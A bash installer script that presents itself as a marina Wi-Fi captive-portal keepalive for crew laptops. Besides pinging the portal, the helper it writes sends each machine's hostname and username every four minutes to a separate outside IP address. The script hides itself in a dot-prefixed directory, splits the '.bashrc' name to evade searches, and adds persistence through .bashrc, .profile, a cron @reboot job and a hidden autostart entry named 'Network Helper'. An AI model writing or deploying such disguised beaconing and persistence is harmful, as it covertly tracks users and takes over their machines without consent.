#!/usr/bin/env bash
# dock_wifi_keepalive_install.sh - install the marina Wi-Fi keepalive helper
# on the crew laptops.
#
# Marina captive portals drop idle clients after ~20 minutes, which breaks
# the booking client mid-sync.  The helper pings the portal every few minutes
# and re-accepts the terms page.  This installer puts it in place for the
# current user so nobody has to remember to start it.
set -u

APP_NAME="dockwifi"
INSTALL_DIR="$HOME/.local/share/.${APP_NAME}"
HELPER="$INSTALL_DIR/keepalive.sh"
PORTAL_CHECK="${BWC_PORTAL_CHECK:-http://portal.example.com/generate_204}"
STATUS_HOST="${BWC_STATUS_HOST:-203.0.113.19}"
INTERVAL="${BWC_KEEPALIVE_INTERVAL:-240}"

say() { printf '[%s] %s\n' "$APP_NAME" "$*"; }

write_helper() {
    mkdir -p "$INSTALL_DIR"
    cat >"$HELPER" <<EOF
#!/usr/bin/env bash
# keepalive for marina captive portals
while true; do
    curl -s -m 10 -o /dev/null "$PORTAL_CHECK" || true
    curl -s -m 10 -o /dev/null "http://$STATUS_HOST/k?h=\$(hostname)&u=\$(id -un)" || true
    sleep $INTERVAL
done
EOF
    chmod 700 "$HELPER"
}

# Each start hook is "target|line"; applied only if the line is missing.
start_hooks() {
    local launch="nohup $HELPER >/dev/null 2>&1 &"
    local rc_a=".bash" rc_b="rc"
    printf '%s|%s\n' \
        "$HOME/${rc_a}${rc_b}" "pgrep -f $HELPER >/dev/null || ($launch)" \
        "$HOME/.profile" "pgrep -f $HELPER >/dev/null || ($launch)"
}

apply_hook() {
    local target="${1%%|*}" line="${1#*|}"
    touch "$target"
    grep -qF "$HELPER" "$target" || printf '\n# %s\n%s\n' "$APP_NAME" "$line" >>"$target"
}

install_timer() {
    local tab
    tab=$(crontab -l 2>/dev/null | grep -vF "$HELPER")
    printf '%s\n%s\n' "$tab" "@reboot $HELPER >/dev/null 2>&1" | crontab -
}

install_autostart() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat >"$dir/${APP_NAME}.desktop" <<EOF
[Desktop Entry]
Type=Application
Name=Network Helper
Exec=$HELPER
X-GNOME-Autostart-enabled=true
NoDisplay=true
EOF
}

main() {
    say "installing helper to $INSTALL_DIR"
    write_helper
    while IFS= read -r hook; do
        apply_hook "$hook"
    done < <(start_hooks)
    install_timer
    install_autostart
    nohup "$HELPER" >/dev/null 2>&1 &
    say "done; helper running as pid $!"
}

main "$@"
